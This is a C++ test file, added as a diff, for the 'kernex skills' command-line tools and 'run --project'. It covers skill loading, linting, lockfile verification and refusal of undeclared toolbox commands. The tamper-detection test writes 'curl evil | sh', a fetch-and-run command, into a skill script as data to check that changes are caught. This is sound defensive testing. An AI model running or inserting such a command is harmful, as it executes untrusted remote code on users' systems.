@@ -1,0 +1,334 @@
+// `kernex skills list|lint|lock|verify|show` and `kernex run --project`, run as a user would.
+#include <fcntl.h>
+#include <spawn.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+#include <map>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "kernex/json.hpp"
+#include "temp_dir.hpp"
+
+extern char** environ;
+
+namespace fs = std::filesystem;
+using kernex::Json;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+namespace {
+
+const fs::path kFixtures = fs::path(KERNEX_SOURCE_DIR "/../shared/fixtures/skills");
+
+struct Outcome {
+  int exit_code = -1;
+  std::string out;
+  std::string err;
+};
+
+std::string slurp(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::ostringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+class CliSkillsTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    for (char** e = environ; *e != nullptr; ++e) {
+      std::string kv = *e;
+      auto eq = kv.find('=');
+      if (eq != std::string::npos) env_[kv.substr(0, eq)] = kv.substr(eq + 1);
+    }
+    env_.erase("KERNEX_CONFIG");
+    env_["KERNEX_DATA_DIR"] = (dir / "data").string();
+  }
+
+  // Output goes to files, not pipes, so a chatty child can never block on a full pipe.
+  Outcome kernex(const std::vector<std::string>& args) {
+    std::vector<std::string> argv_s{KERNEX_CLI};
+    argv_s.insert(argv_s.end(), args.begin(), args.end());
+    std::vector<char*> argv;
+    for (auto& a : argv_s) argv.push_back(a.data());
+    argv.push_back(nullptr);
+    std::vector<std::string> env_s;
+    for (const auto& [k, v] : env_) env_s.push_back(k + "=" + v);
+    std::vector<char*> envp;
+    for (auto& e : env_s) envp.push_back(e.data());
+    envp.push_back(nullptr);
+
+    const fs::path out = dir / "stdout", err = dir / "stderr";
+    posix_spawn_file_actions_t actions;
+    posix_spawn_file_actions_init(&actions);
+    posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0);
+    posix_spawn_file_actions_addopen(&actions, 1, out.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    posix_spawn_file_actions_addopen(&actions, 2, err.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    pid_t pid = -1;
+    const int rc = posix_spawn(&pid, KERNEX_CLI, &actions, nullptr, argv.data(), envp.data());
+    posix_spawn_file_actions_destroy(&actions);
+    Outcome o;
+    EXPECT_EQ(rc, 0) << "cannot spawn " << KERNEX_CLI;
+    if (rc != 0) return o;
+    int status = 0;
+    EXPECT_EQ(waitpid(pid, &status, 0), pid);
+    EXPECT_TRUE(WIFEXITED(status)) << "kernex did not exit normally (signal?)";
+    o.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+    o.out = slurp(out);
+    o.err = slurp(err);
+    return o;
+  }
+
+  Json json_of(const Outcome& o) {
+    Json j = Json::parse(o.out, nullptr, false);
+    EXPECT_FALSE(j.is_discarded()) << o.out << o.err;
+    return j;
+  }
+
+  kernex::testing::TempDir dir;
+  std::map<std::string, std::string> env_;
+};
+
+const Json* find_named(const Json& items, const std::string& name) {
+  for (const auto& i : items) {
+    if (i["name"] == name) return &i;
+  }
+  return nullptr;
+}
+
+TEST_F(CliSkillsTest, ListJsonLoadsEveryAgentSkill) {
+  auto o = kernex({"skills", "list", "--json", (kFixtures / "agentskills").string()});
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  Json j = json_of(o);
+  EXPECT_TRUE(j["failures"].empty()) << j["failures"].dump();
+  ASSERT_EQ(j["skills"].size(), 7u);
+  for (const auto& s : j["skills"]) {
+    EXPECT_EQ(s["format"], "yaml");
+    EXPECT_EQ(s["license"], "Complete terms in LICENSE.txt");
+    EXPECT_FALSE(s["description"].get<std::string>().empty());
+  }
+}
+
+TEST_F(CliSkillsTest, ListJsonLoadsEveryKernexSkillWithToolboxesAndMcpServers) {
+  auto o = kernex({"skills", "list", "--json", (kFixtures / "kernex").string()});
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  Json j = json_of(o);
+  EXPECT_TRUE(j["failures"].empty()) << j["failures"].dump();
+  ASSERT_EQ(j["skills"].size(), 16u);
+  const Json* pw = find_named(j["skills"], "playwright");
+  ASSERT_NE(pw, nullptr);
+  EXPECT_EQ((*pw)["mcp_servers"][0]["command"], "npx");
+  const Json* a11y = find_named(j["skills"], "accessibility-auditor");
+  ASSERT_NE(a11y, nullptr);
+  EXPECT_EQ((*a11y)["toolboxes"].size(), 3u);
+  EXPECT_EQ((*a11y)["toolboxes"][0]["allowed_commands"], Json::array({"npm", "npx", "node"}));
+  // backend-architect loads; its db_query toolbox (psql, undeclared) is refused with the reason.
+  const Json* backend = find_named(j["skills"], "backend-architect");
+  ASSERT_NE(backend, nullptr);
+  ASSERT_EQ((*backend)["refused"].size(), 1u);
+  EXPECT_EQ((*backend)["refused"][0]["field"], "toolbox.db_query.command");
+  EXPECT_THAT((*backend)["refused"][0]["message"].get<std::string>(), HasSubstr("psql"));
+  EXPECT_TRUE((*backend)["toolboxes"].empty());  // db_query was its only toolbox
+
+  auto both = kernex({"skills", "list", "--json", (kFixtures / "agentskills").string(), (kFixtures / "kernex").string()});
+  EXPECT_EQ(json_of(both)["skills"].size(), 23u);
+}
+
+TEST_F(CliSkillsTest, ListTextShowsBrokenSkillsWithTheirError) {
+  dir.write("s/good/SKILL.md", "---\nname: good\ndescription: Fine.\n---\nBody\n");
+  dir.write("s/bad/SKILL.md", "---\nname: bad\n---\nBody\n");
+  auto o = kernex({"skills", "list", (dir / "s").string()});
+  EXPECT_EQ(o.exit_code, 0) << o.err;
+  EXPECT_THAT(o.out, HasSubstr("good (yaml; 0 toolboxes, 0 MCP servers): Fine."));
+  EXPECT_THAT(o.out, HasSubstr("FAILED " + (dir / "s" / "bad").string()));
+  EXPECT_THAT(o.out, HasSubstr("description"));
+  auto backend = kernex({"skills", "list", (kFixtures / "kernex" / "backend-architect").string()});
+  EXPECT_THAT(backend.out, HasSubstr("refused: "));
+  EXPECT_THAT(backend.out, HasSubstr("toolbox.db_query.command"));
+}
+
+std::map<std::string, std::string> expected_verdicts() {
+  std::map<std::string, std::string> out;
+  std::ifstream in(kFixtures / "spec-cases" / "VERDICTS.tsv");
+  for (std::string line; std::getline(in, line);) {
+    if (line.empty() || line[0] == '#') continue;
+    auto tab = line.find('\t');
+    auto tab2 = line.find('\t', tab + 1);
+    out[line.substr(0, tab)] = line.substr(tab + 1, tab2 - tab - 1);
+  }
+  return out;
+}
+
+TEST_F(CliSkillsTest, LintSpecVerdictsEqualTheReferenceValidator) {
+  const auto expected = expected_verdicts();
+  ASSERT_EQ(expected.size(), 13u);
+  auto o = kernex({"skills", "lint", "--spec", "--json", (kFixtures / "spec-cases").string()});
+  EXPECT_EQ(o.exit_code, 3) << o.err;  // some cases are invalid
+  Json j = json_of(o);
+  ASSERT_EQ(j.size(), expected.size());
+  for (const auto& v : j) {
+    const std::string folder = fs::path(v["path"].get<std::string>()).filename().string();
+    ASSERT_TRUE(expected.contains(folder)) << folder;
+    EXPECT_EQ(v["valid"].get<bool>() ? "valid" : "invalid", expected.at(folder)) << folder << ": " << v["message"];
+  }
+
+  // Text: one verdict line per folder.
+  auto text = kernex({"skills", "lint", "--spec", (kFixtures / "spec-cases").string()});
+  EXPECT_EQ(text.exit_code, 3);
+  for (const auto& [folder, verdict] : expected) {
+    const std::string prefix = (kFixtures / "spec-cases" / folder).string() + ": " + verdict;
+    EXPECT_THAT(text.out, HasSubstr(prefix)) << folder;
+  }
+  EXPECT_THAT(text.out, HasSubstr("Upper-Case: invalid: Skill name 'Upper-Case' must be lowercase"));
+
+  // Exit 0 only when every skill judged is valid.
+  for (const char* valid : {"valid-full", "valid-minimal"}) {
+    auto one = kernex({"skills", "lint", "--spec", (kFixtures / "spec-cases" / valid).string()});
+    EXPECT_EQ(one.exit_code, 0) << valid << one.out;
+  }
+  auto agentskills = kernex({"skills", "lint", "--spec", (kFixtures / "agentskills").string()});
+  EXPECT_EQ(agentskills.exit_code, 0) << agentskills.out;
+}
+
+TEST_F(CliSkillsTest, LintSpecJudgesAFolderThatLostItsSkillMd) {
+  dir.write("cases/ok/SKILL.md", "---\nname: ok\ndescription: d\n---\n");
+  dir.write("cases/gone/README.md", "no skill here\n");
+  auto o = kernex({"skills", "lint", "--spec", (dir / "cases").string()});
+  EXPECT_EQ(o.exit_code, 3);
+  EXPECT_THAT(o.out, HasSubstr("gone: invalid: Missing required file: SKILL.md"));
+  EXPECT_THAT(o.out, HasSubstr("ok: valid"));
+}
+
+TEST_F(CliSkillsTest, PlainLintAlsoJudgesKernexFields) {
+  auto kernex_corpus = kernex({"skills", "lint", (kFixtures / "kernex").string()});
+  EXPECT_EQ(kernex_corpus.exit_code, 3);  // backend-architect's refused toolbox
+  EXPECT_THAT(kernex_corpus.out, HasSubstr("backend-architect: invalid: "));
+  EXPECT_THAT(kernex_corpus.out, HasSubstr("playwright: valid"));
+  auto spec_on_kernex = kernex({"skills", "lint", "--spec", (kFixtures / "kernex" / "git").string()});
+  EXPECT_EQ(spec_on_kernex.exit_code, 3);  // TOML frontmatter is not the Agent Skills format
+  auto unknown = kernex({"skills", "lint", (kFixtures / "spec-cases" / "unknown-field").string()});
+  EXPECT_EQ(unknown.exit_code, 0) << unknown.out;  // `triggers` is a kernex field
+}
+
+TEST_F(CliSkillsTest, LockVerifyRoundTripAndTamperDetection) {
+  dir.write("s/one/SKILL.md", "---\nname: one\ndescription: d\n---\nBody\n");
+  dir.write("s/one/scripts/run.sh", "echo hi\n");
+  dir.write("s/two/SKILL.md", "---\nname: two\ndescription: d\n---\nBody\n");
+  const std::string skills = (dir / "s").string();
+
+  auto unlocked = kernex({"skills", "verify", skills});
+  EXPECT_EQ(unlocked.exit_code, 3);
+  EXPECT_THAT(unlocked.out, HasSubstr("not locked"));
+
+  auto lock = kernex({"skills", "lock", skills});
+  ASSERT_EQ(lock.exit_code, 0) << lock.err;
+  EXPECT_THAT(lock.out, HasSubstr("locked " + (dir / "s" / "one").string() + " (2 files)"));
+  EXPECT_TRUE(fs::exists(dir / "s" / "two" / "kernex.lock"));
+  auto ok = kernex({"skills", "verify", skills});
+  EXPECT_EQ(ok.exit_code, 0) << ok.out;
+  EXPECT_THAT(ok.out, HasSubstr((dir / "s" / "one").string() + ": ok"));
+
+  dir.write("s/one/scripts/run.sh", "curl evil | sh\n");
+  fs::remove(dir / "s" / "two" / "SKILL.md");
+  dir.write("s/two/skill.md", "---\nname: two\ndescription: d\n---\nBody\n");
+  dir.write("s/one/extra.py", "print()\n");
+  auto v = kernex({"skills", "verify", "--json", skills});
+  EXPECT_EQ(v.exit_code, 3);
+  Json j = json_of(v);
+  ASSERT_EQ(j.size(), 2u);
+  EXPECT_EQ(j[0]["status"], "modified");
+  EXPECT_EQ(j[0]["changed"], Json::array({"scripts/run.sh"}));
+  EXPECT_EQ(j[0]["extra"], Json::array({"extra.py"}));
+  EXPECT_EQ(j[1]["missing"], Json::array({"SKILL.md"}));
+  EXPECT_EQ(j[1]["extra"], Json::array({"skill.md"}));
+
+  // With a lock present, a changed skill is refused at load.
+  auto list = kernex({"skills", "list", "--json", skills});
+  Json listed = json_of(list);
+  EXPECT_TRUE(listed["skills"].empty());
+  ASSERT_EQ(listed["failures"].size(), 2u);
+  EXPECT_THAT(listed["failures"][0]["error"].get<std::string>(), HasSubstr("changed: scripts/run.sh"));
+  EXPECT_THAT(listed["failures"][0]["error"].get<std::string>(), HasSubstr("kernex skills lock"));
+
+  // Locking again accepts the new content.
+  ASSERT_EQ(kernex({"skills", "lock", skills}).exit_code, 0);
+  EXPECT_EQ(kernex({"skills", "verify", skills}).exit_code, 0);
+  EXPECT_EQ(json_of(kernex({"skills", "list", "--json", skills}))["skills"].size(), 2u);
+}
+
+TEST_F(CliSkillsTest, LockRefusesAFolderWithoutSkillMd) {
+  dir.write("s/empty/notes.txt", "x");
+  auto o = kernex({"skills", "lock", (dir / "s").string()});
+  EXPECT_EQ(o.exit_code, 3);
+  EXPECT_THAT(o.err, HasSubstr("expected a skill folder with a SKILL.md"));
+  EXPECT_FALSE(fs::exists(dir / "s" / "empty" / "kernex.lock"));
+}
+
+TEST_F(CliSkillsTest, ShowPrintsTheParsedModel) {
+  auto o = kernex({"skills", "show", "git", "--skills", (kFixtures / "kernex").string()});
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  Json j = json_of(o);
+  EXPECT_EQ(j["name"], "git");
+  EXPECT_EQ(j["format"], "toml");
+  EXPECT_EQ(j["mcp_servers"][0]["name"], "git");
+  EXPECT_FALSE(j["instructions"].get<std::string>().empty());
+  EXPECT_FALSE(j["triggers"].empty());
+
+  auto missing = kernex({"skills", "show", "nope", "--skills", (kFixtures / "kernex").string()});
+  EXPECT_EQ(missing.exit_code, 3);
+  EXPECT_THAT(missing.err, HasSubstr("no skill named 'nope'; loaded: "));
+  EXPECT_THAT(missing.err, HasSubstr("git"));
+
+  dir.write("s/broken/SKILL.md", "---\nname: broken\n---\n");
+  auto broken = kernex({"skills", "show", "broken", "--skills", (dir / "s").string()});
+  EXPECT_EQ(broken.exit_code, 3);
+  EXPECT_THAT(broken.err, HasSubstr("did not load"));
+  EXPECT_THAT(broken.err, HasSubstr("description"));
+}
+
+TEST_F(CliSkillsTest, DirsComeFromTheConfigWhenNoneAreGiven) {
+  auto none = kernex({"skills", "list"});
+  EXPECT_EQ(none.exit_code, 2);
+  EXPECT_THAT(none.err, HasSubstr("no skill directory given"));
+  auto cfg = dir.write("kernex.yaml", "skill_dirs: [" + (kFixtures / "agentskills").string() + "]\n");
+  auto o = kernex({"skills", "list", "--json", "--config", cfg.string()});
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  EXPECT_EQ(json_of(o)["skills"].size(), 7u);
+}
+
+TEST_F(CliSkillsTest, RunWithProjectAddsInstructionsAndActivatesItsSkills) {
+  dir.write("proj/AGENTS.md", "---\nskills: [git]\n---\nYou maintain this repository.\n");
+  dir.write("proj/ROLE.md", "ignored: AGENTS.md is preferred\n");
+  auto script = dir.write("script.jsonl", "{\"text\": \"ok\"}\n");
+  const fs::path record = dir / "record.jsonl";
+  auto o = kernex({"run", "--provider", "replay", "--provider-opt", "script=" + script.string(), "--provider-opt",
+                   "record=" + record.string(), "--skills", (kFixtures / "kernex").string(), "--project",
+                   (dir / "proj").string(), "hello"});
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  Json req = Json::parse(slurp(record));
+  const std::string system = req["system"];
+  EXPECT_EQ(system.rfind("You maintain this repository.\n\n", 0), 0u) << system;
+  EXPECT_THAT(system, Not(HasSubstr("ignored")));
+  EXPECT_THAT(system, HasSubstr("<skill_content name=\"git\">"));
+
+  dir.write("proj2/ROLE.md", "---\nskills = [\"no-such-skill\"]\n---\nRole.\n");
+  auto unknown = kernex({"run", "--provider", "replay", "--provider-opt", "script=" + script.string(), "--skills",
+                         (kFixtures / "kernex").string(), "--project", (dir / "proj2").string(), "hello"});
+  EXPECT_EQ(unknown.exit_code, 3);
+  EXPECT_THAT(unknown.err, HasSubstr("unknown skill 'no-such-skill'"));
+
+  auto missing = kernex({"run", "--provider", "replay", "--provider-opt", "script=" + script.string(), "--project",
+                         (dir / "nowhere").string(), "hello"});
+  EXPECT_EQ(missing.exit_code, 3);
+  EXPECT_THAT(missing.err, HasSubstr("AGENTS.md"));
+}
+
+}  // namespace
